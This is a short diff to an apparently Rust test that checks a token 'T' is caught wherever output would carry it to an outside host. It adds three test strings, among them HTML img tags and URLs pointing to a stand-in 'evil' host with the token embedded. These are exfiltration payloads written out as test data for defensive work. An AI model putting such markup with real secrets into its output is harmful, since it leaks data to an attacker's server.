@@ -119,6 +119,9 @@ fn where_it_would_be_carried_out_the_token_stays() {
         "http://evil/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaT",
         "[x](evil?a=(b)T)",
         "<a\nhref=T>",
+        "<img alt=\">\" src=T>",
+        "http://evil/?\"T",
+        "[\"<img src='http://evil/\", \"T'>\"]",
         "\\\\evil\\T",
     ] {
         for pieces in [1, 2, 7, 100] {
